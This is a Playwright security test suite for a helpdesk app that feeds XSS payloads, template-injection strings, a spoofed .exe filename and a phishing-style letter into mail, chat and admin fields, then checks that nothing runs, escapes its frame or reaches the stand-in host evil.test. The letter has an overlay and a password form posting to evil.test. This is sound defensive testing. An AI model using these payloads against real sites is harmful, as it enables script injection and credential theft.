import { createHmac, randomBytes, randomUUID } from 'node:crypto';
import type { BrowserContext, Page, Request } from '@playwright/test';
import { htmlAttacks } from '#channels/email/parsing/samples/html-attacks.ts';
import { snippetOf } from '#contract/quidget-snippet.ts';
import { entityNamed } from '#test/api/contract-registry.ts';
import { hostileRowOf, sendHostile } from '#test/api/hostile-rows.ts';
import { rows } from '#test/api/rows-of.ts';
import type { ParleyServer } from '#test/rigs/parley-server.ts';
import { entityNames } from '../web/src/features/entity/entity-names.ts';
import { type Engine, startFirefox, startWebKit } from './support/engines.ts';
import { goesOn, goingOn } from './support/goes-on.ts';
import { askOwnDatabase } from './support/members.ts';
import type { Shop } from './support/shop.ts';
import { expect, test } from './support/story.ts';
import { startWatchedFront } from './support/watched-front.ts';

/** What people write where no HTML is expected at all. */
const script = 'alert(1)';
const textAttacks = [
  `<img src=x onerror=${script}>`,
  `<script>${script}</script>`,
  `"><svg onload=${script}>`,
  `'-${script}-'`,
  `</title><script>${script}</script>`,
  `</textarea><img src=x onerror=${script}>`,
  `javascript:${script}`,
  `\${${script}}{{constructor.constructor('${script}')()}}`,
  `$t(errors.internal) {{name}} <0>${script}</0>`,
  `<a href="javascript:${script}">x</a>`,
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  '\u202Egpj.exe\u200B',
];
// Every second one of the big set is shown here; all of them are tried on the cleaner itself.
const shownAttacks = htmlAttacks.filter((_, at) => at % 2 === 0);

/** NUL is refused wherever somebody writes. */
const typedHtml = htmlAttacks.filter((one) => !one.includes('\0'));
/** What HTML would be shown of says many things at once, everything else one. */
const attackWithin = (max: number, at: number): string => {
  if (max >= 5000) return `<p>Walnut</p>${typedHtml.slice(at * 8, at * 8 + 8).join('')}`.slice(0, max);
  const fitting = textAttacks.filter((one) => one.length <= max);
  return fitting[at % Math.max(1, fitting.length)] ?? '';
};

/** A number of the company, which operators would give it. */
async function aPhoneOf(server: ParleyServer, { companyId, productId }: Shop): Promise<number> {
  const number = `+38044${String(companyId).padStart(7, '0')}`;
  const insert = `with made as (insert into phones (company_id, product_id, acd_provider_id, name, phone_number, country_code, is_onboarding)
      values ($1, $2, 1, 'Shop', $3, 'UA', 0) returning id)
    insert into phone_assignments (company_id, phone_id, product_id) select $1, id, $2 from made
    returning phone_id as id`;
  const [phone] = await askOwnDatabase<{ id: string }>(server, insert, [companyId, productId, number]);
  return Number(phone?.id);
}

/** Every row of the list comes onto the screen once: those out of sight are not drawn. */
async function seesAll(page: Page, count: number): Promise<void> {
  const rows = page.getByRole('list', { name: 'Inbox' }).getByRole('listitem');
  await expect(rows.first()).toHaveAttribute('aria-setsize', String(count));
  for (let place = 1; place <= count; place += 5)
    await page
      .locator(`[role=listitem][aria-posinset="${place}"], li[aria-posinset="${place}"]`)
      .scrollIntoViewIfNeeded();
}

test('A23 no letter runs a program, reaches another server or leaves its frame, wherever its words are shown', async ({
  page,
  context,
  aServer,
  shop,
  complaints,
}) => {
  // A letter's own policy refuses what its cleaner left; Chromium says so at the letter's address.
  complaints.expect(/^error at \S+\/v1\/api\/messages\/\d+\/frame\S*: .*Content Security Policy/);
  complaints.expect(/status of 404/);
  const alarms = await armed(context, aServer.url);
  await context.addInitScript(canary);

  for (const [at, html] of shownAttacks.entries()) {
    const words = textAttacks[at % textAttacks.length] ?? '';
    await shop.receives({
      from: { name: words, address: `stranger${at}@evil.test` },
      subject: `${at}: ${words}`,
      html: `<p>Letter ${at}</p>${html}`,
      text: words,
      attachments: [{ filename: `${words}.html`, content: `<script>${script}</script>`, contentType: 'text/html' }],
    });
  }
  const last = await shop.receivesTicket({ subject: 'The last one', text: textAttacks.join('\n') });
  await shop.signIn(context);

  await test.step('in the list', async () => {
    await page.goto('/v1/tickets');
    await seesAll(page, shownAttacks.length + 1);
  });

  await test.step('in the thread: each letter stays in its frame', async () => {
    await goesOn(page, `/v1/tickets/${last.id}?size=100`);
    await expect(page.getByRole('article')).toContainText(`<script>${script}</script>`);
    // Mails that come close together may be taken in another order than they were sent in.
    const heading = page.getByRole('heading', { level: 1 });
    const seen = new Set<number>();
    for (let n = 0; n < shownAttacks.length; n++) {
      const before = (await heading.textContent()) ?? '';
      await page.keyboard.press('j');
      await expect(heading).not.toHaveText(before);
      const at = Number.parseInt((await heading.textContent()) ?? '', 10);
      const frame = page.getByRole('article').locator('iframe');
      await expect(frame.contentFrame().getByText(`Letter ${at}`, { exact: true })).toBeVisible();
      seen.add(at);
    }
    expect(seen.size).toBe(shownAttacks.length);
    expect(page.url()).toMatch(/\/v1\/tickets\/\d+\?size=100$/);
  });

  await test.step('among customers, in their form, in the mail log, in names that Olena gave', async () => {
    await goesOn(page, '/v1/customers');
    await expect(page.getByRole('table')).toContainText('evil.test');
    await goesOn(page, `/v1/mailboxes/${shop.mailboxId}/log`);
    await expect(page.getByRole('list', { name: 'Mail log' })).toContainText(`<script>${script}</script>`);
    const name = `<img src=x onerror=${script}>`;
    await shop.olena.api.post('products/update', {
      data: { name, abbreviation: '<b>' },
      filter: { conditions: [['id', '=', shop.productId]] },
    });
    await goesOn(page, `/v1/products/${shop.productId}/edit`);
    await expect(page.getByLabel('Name')).toHaveValue(name);
    await goesOn(page, '/v1/tickets');
    await expect(page.getByRole('navigation', { name: 'Views' })).toContainText(name);
  });

  expect(alarms(), 'nothing ran and nothing left').toEqual([]);
  await page.evaluate(script);
  await expect.poll(alarms, { message: 'the canary lives' }).toEqual(['a program ran: 1']);

  await test.step('in Firefox and in WebKit, and in the window of the chat there', async () => {
    const chat = await aHostileChat(shop);
    const found = await shop.olena.api.post('messages/get', {
      filter: { conditions: [['company_id', '=', shop.companyId]] },
      fields: ['id', 'ticket_id', 'channel'],
      range: [0, 100],
    });
    const letters = rows(found, 'messages').filter((one) => one.channel === 'mail' && one.ticket_id !== last.id);
    expect(letters).toHaveLength(shownAttacks.length);
    await Promise.all(
      [startFirefox, startWebKit].map(async (start) => {
        const front = await startWatchedFront(aServer.url, (port) => ({
          '/shop': chat.pageAt(`http://localhost:${port}`),
        }));
        front.admits(shop.olena.api.cookie);
        const engine = await start(front.port);
        try {
          await seesEverything(engine, front, { shop, letters, plain: last.id });
          expect([...front.alarms, ...(await engine.opened())], `${start.name}: nothing ran and nothing left`).toEqual(
            [],
          );
          await engine.ask(`${script} ?? fetch('http://canary.test').catch(() => 0).then(() => 0)`);
          await expect
            .poll(() => front.alarms.toSorted())
            .toEqual(['a program ran: 1', 'asked for http://canary.test/']);
        } finally {
          await engine.stop();
          front.stop();
        }
      }),
    );
  });
});

test('A23 no noun of the administration runs what somebody calls it, in its list or its form', async ({
  page,
  context,
  aServer,
  shop,
  complaints,
}) => {
  // The canary itself, which the closed frame of a preview does not let in.
  complaints.expect(/about:srcdoc: Blocked script execution/);
  const alarms = await armed(context, aServer.url);
  await context.addInitScript(canary);
  const { api } = shop.olena;
  const refers: Record<string, number> = {
    ...{ companies: shop.companyId, products: shop.productId, mailboxes: shop.mailboxId },
  };
  const phoneId = await aPhoneOf(aServer, shop);
  await shop.signIn(context);
  await page.goto('/v1/tickets');
  await expect(page.getByRole('navigation', { name: 'Views' })).toBeVisible();
  for (const noun of entityNames.filter((one) => one !== 'users')) {
    const of = entityNamed(noun === 'phones' ? 'product-call-phones' : noun);
    const isNew = of.actions.includes('create');
    const made: { id: number; row: Record<string, unknown> }[] = [];
    // As many rows as there are attacks: each field says each of them once.
    for (let first = 0; first < (isNew ? textAttacks.length : 1); first++) {
      let at = first;
      const hostile = hostileRowOf(of, isNew ? 'create' : 'update', refers, (max) => attackWithin(max, at++));
      const { answer, row } = await sendHostile(hostile, (data) =>
        isNew
          ? api.post(`${of.name}/create`, { data: [data] })
          : api.post(`${of.name}/update`, { data, filter: { conditions: [['id', '=', phoneId]] } }),
      );
      expect(answer.status, `${noun}: ${answer.text}`).toBe(200);
      made.push({ id: rows(answer, of.name)[0].id, row });
    }
    const [{ id } = { id: 0 }] = made;
    refers[of.name] ??= id;
    await test.step(noun, async () => {
      await goesOn(page, `/v1/${noun}/search?rows=100`);
      for (const { row } of made) {
        const called = String(row.from_email ?? row.name ?? row.title ?? row.company_name ?? row.first_name);
        // What nobody sees is taken out of a name.
        if (!called.includes('\u202E')) await expect(page.locator('main')).toContainText(called);
      }
      await goesOn(page, `/v1/${noun}/${id}/edit`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page.locator('main input, main h1').first()).toBeVisible();
    });
    // Nobody is to go on looking for their servers.
    const those = { filter: { conditions: [['id', 'in', made.map((one) => one.id)]] } };
    if (noun === 'mailboxes') expect((await api.post('mailboxes/delete', those)).status).toBe(200);
  }
  const name = `<img src=x onerror=${script}>`;
  await test.step('people', async () => {
    const renamed = await api.call('profile/change', { name });
    expect(renamed.status, renamed.text).toBe(200);
    await goesOn(page, '/v1/users/search');
    await expect(page.locator('main')).toContainText(name);
  });
  await goesOn(page, '/v1/audit');
  await expect(page.locator('main')).toContainText(name);
  expect(alarms(), 'nothing ran and nothing left').toEqual([]);
  await page.evaluate(script);
  await expect.poll(alarms, { message: 'the canary lives' }).toEqual(['a program ran: 1']);
});

test('A24 a letter that wants to cover the screen, to be sent or to lead away stays where it is', async ({
  page,
  context,
  aServer,
  shop,
  complaints,
}) => {
  complaints.expect(/^error at \S+\/v1\/api\/messages\/\d+\/frame\S*: .*Content Security Policy/);
  const alarms = await armed(context, aServer.url);
  const { id } = await shop.receivesTicket({
    subject: 'Your session has ended',
    html: `<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
      <style>@import url(https://evil.test/import.css); @font-face { font-family: x; src: url(https://evil.test/font) } p { font-family: x }</style>
      <div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red">Cover</div>
      <p style="margin-top:-5000px;background-image:url(https://evil.test/background)">Sign in again</p>
      <form action="https://evil.test/form" target="_top"><input name="password"><button>Sign in</button></form>
      <a href="relative" target="_top">Link</a><img src="https://evil.test/pixel"><img srcset="https://evil.test/set 1x">`,
  });
  await shop.signIn(context);
  await page.goto(`/v1/tickets/${id}`);
  const letter = page.getByRole('article', { name: /^Hanna/ });
  const frame = letter.locator('iframe');
  await expect(frame.contentFrame().getByText('Cover')).toBeAttached();

  const [inner, outer] = [await frame.boundingBox(), await letter.boundingBox()];
  if (!inner || !outer) throw new Error('the letter is not there');
  expect(inner.x).toBeGreaterThanOrEqual(outer.x);
  expect(inner.x + inner.width).toBeLessThanOrEqual(outer.x + outer.width);
  expect(inner.y).toBeGreaterThanOrEqual(outer.y);
  expect(inner.y + inner.height).toBeLessThanOrEqual(outer.y + outer.height);
  // Nothing of it lies over what Olena wants to press.
  await page.getByRole('textbox', { name: 'Reply', exact: true }).click();
  await page.getByRole('button', { name: 'Resolve' }).click();
  await expect(page.getByText('Olena Kovalenko resolved the ticket')).toBeVisible();

  await expect(frame.contentFrame().locator('form, input, button, meta[http-equiv], base, link')).toHaveCount(0);
  await expect(frame.contentFrame().getByText('Cover')).not.toHaveCSS('position', 'fixed');
  expect(page.frames().map((one) => new URL(one.url()).origin)).toEqual([aServer.url, aServer.url]);
  expect(alarms()).toEqual([]);
});

/** In every document, before anything of it: what attacks call tells that it was called. */
const canary = `
for (const name of ['alert', 'confirm', 'prompt', 'print'])
  window[name] = (...words) => { console.info('canary: a program ran: ' + words); };
document.addEventListener('securitypolicyviolation', (event) => {
  if (window === window.top) console.info('canary: the desk itself broke its policy: ' + event.violatedDirective + ' ' + event.blockedURI);
});`;

/** Listens in a whole browser; answers what went wrong so far. */
async function armed(context: BrowserContext, home: string): Promise<() => string[]> {
  const alarms: string[] = [];
  context.on('console', (message) => {
    const [, words] = /^canary: (.*)$/s.exec(message.text()) ?? [];
    if (words) alarms.push(words);
  });
  context.on('dialog', (dialog) => {
    alarms.push(`a dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const asks = (request: Request) => {
    const url = request.url();
    const isOurs = url.startsWith(home) || url.startsWith('data:') || url.startsWith('blob:');
    // What a policy held back is announced and never leaves.
    if (!isOurs && request.failure()?.errorText !== 'csp') alarms.push(`asked for ${url}`);
  };
  context.on('requestfinished', asks);
  context.on('requestfailed', asks);
  context.on('page', (opened: Page) => alarms.push(`a window opened: ${opened.url()}`));
  return () => alarms;
}

/** A chat in which both sides say what attacks say, under such a name, on a page that knows its visitor. */
async function aHostileChat({ olena: { api }, companyId, productId }: Shop) {
  const words = textAttacks.join('\n');
  const name = `<img src=x onerror=${script}>`;
  const made = await api.call('quidgets/create', [{ company_id: companyId, product_id: productId, name, title: name }]);
  const quidget = made.body.data.quidgets[0];
  const { secret } = (await api.call('quidgets/rotate-secret', { id: quidget.id })).body.data;
  const identity = { user: name, signature: createHmac('sha256', secret).update(name).digest('hex') };
  const who = { quidget: quidget.id, token: randomBytes(32).toString('base64url'), identity };
  const begun = await api.call('chat/begin', {
    ...{ ...who, client_id: randomUUID(), text: words, language: 'en', asked: { name } },
    page: { url: `javascript:${script}`, title: name, referrer: `javascript:${script}` },
  });
  expect(begun.status, begun.text).toBe(200);
  const chats = await api.post('tickets/get', { filter: { conditions: [['channel', '=', 'chat']] } });
  const ticketId: number = rows(chats, 'tickets')[0].id;
  const body = words.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('\n', '<br>');
  const reply = { ticket_id: ticketId, client_id: randomUUID(), body_html: `<p>${body}</p>`, to: [], cc: [], bcc: [] };
  const answered = await api.call('tickets/reply', reply);
  expect(answered.status, answered.text).toBe(200);
  const text = JSON.stringify({ ...identity, name }).replaceAll('<', '\\u003c');
  return {
    ticketId,
    pageAt: (
      front: string,
    ) => `<!doctype html><html lang="en"><head><script src="/canary.js"></script><title>Tables</title></head>
      <body><script>window.parley = function () { (parley.q = parley.q || []).push(arguments); }; parley('identify', ${text}); parley('open');</script>
      ${snippetOf({ id: quidget.id, name, api_url: `${front}/v1` }, 'html')}</body></html>`,
  };
}

type Letter = { id: number; ticket_id: number };

/** Opens what shows the words of strangers, each letter in the desk's own frame. */
async function seesEverything(
  engine: Engine,
  front: { url: string; port: number },
  { shop, letters, plain }: { shop: Shop; letters: readonly Letter[]; plain: number },
): Promise<void> {
  const shows = (what: string, expression: string) =>
    expect.poll(() => engine.ask<boolean>(`Boolean(${expression})`), { timeout: 45_000, message: what }).toBe(true);
  const said = JSON.stringify(`<script>${script}</script>`);
  await engine.goto(`${front.url}/enter`);
  await shows('the list', `document.querySelector('main')?.innerText.includes(${said})`);
  for (const [page, where] of [
    [`tickets/${plain}`, 'article'],
    ['customers', 'table'],
    [`mailboxes/${shop.mailboxId}/log`, 'main'],
  ]) {
    await engine.ask(goingOn(`/v1/${page}`));
    await shows(String(page), `document.querySelector('${where}')?.innerText.includes(${said})`);
  }
  const [{ ticket_id: first } = { ticket_id: 0 }] = letters;
  await engine.ask(goingOn(`/v1/tickets/${first}`));
  await shows('a letter', "document.querySelector('article iframe')");
  // Each frame tells how tall it is by the one script in it that may run.
  await engine.ask(`(() => {
    window.told = new Set();
    addEventListener('message', ({ data }) => told.add(data?.parleyFrame));
    const frame = document.querySelector('article iframe');
    for (const id of ${JSON.stringify(letters.map((one) => one.id))}) {
      const other = frame.cloneNode();
      other.src = frame.src.replace(/\\d+(?=.frame)/, id);
      document.body.append(other);
    }
  })()`);
  await shows('all letters', `told.size >= ${letters.length}`);
  await engine.goto(`http://127.0.0.1:${front.port}/shop`);
  const chat = "document.querySelector('parley-quidget')?.shadowRoot";
  await shows('the chat', `${chat}?.querySelector('ul.list button')`);
  await engine.ask(`${chat}.querySelector('ul.list button').click()`);
  await shows('both sides of it', `${chat}?.querySelector('[role=log]')?.textContent.split(${said}).length > 2`);
}
